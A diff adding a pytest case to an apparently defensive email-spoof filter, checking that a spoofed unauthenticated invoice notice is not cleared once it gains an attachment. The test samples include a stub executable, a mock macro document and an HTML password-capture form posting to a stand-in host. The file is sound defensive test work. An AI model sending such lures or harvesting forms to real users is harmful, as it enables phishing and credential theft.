@@ -200,6 +200,27 @@ def test_an_unauthenticated_allow_does_not_cover_new_link_hosts():
     assert _match(index, spoof) is None
 
 
+@pytest.mark.parametrize("filename, ctype, payload", [
+    ("statement.exe", "application/octet-stream", b"MZ\x90\x00" + b"\x00" * 60),
+    ("statement.docm", "application/vnd.ms-word.document.macroEnabled.12", b"PK\x03\x04macro"),
+    ("statement.html", "text/html", b"<form action='https://x.example.net/p'><input "
+                                    b"type=password name=p></form>"),
+])
+def test_an_unauthenticated_allow_does_not_cover_a_new_attachment(filename, ctype, payload):
+    """The reported notice's text, spoofed from its unauthenticated address, with an attachment
+    the reports did not carry (found by bench/flywheel.py's abuse run: it used to clear)."""
+    index = _index("allow", [_notice(0, auth=None), _notice(1, auth=None)])
+    m = EmailMessage()
+    m.set_content(NOTICE.format(name="Dana", inv="INV-1002", amount="$194.00", days=17)
+                  + "\nPay online: https://acmepayroll.com/billing\n")
+    m["From"], m["To"], m["Subject"] = ("Acme Payroll <billing@acmepayroll.com>",
+                                        "ap@example.com", "Invoice INV-1002 is past due")
+    assert _match(index, m.as_bytes()) is not None              # the same notice: cleared
+    maintype, _, subtype = ctype.partition("/")
+    m.add_attachment(payload, maintype=maintype, subtype=subtype, filename=filename)
+    assert _match(index, m.as_bytes()) is None
+
+
 def test_kit_marks_survive_a_new_host_per_wave():
     a = _lure(sender="Mail <admin@q1.top>").replace(b"mailbox-quota.top/verify", b"wave1-host.top/verify")
     b = _lure(sender="Mail <admin@q2.top>").replace(b"mailbox-quota.top/verify", b"wave2-host.top/verify")
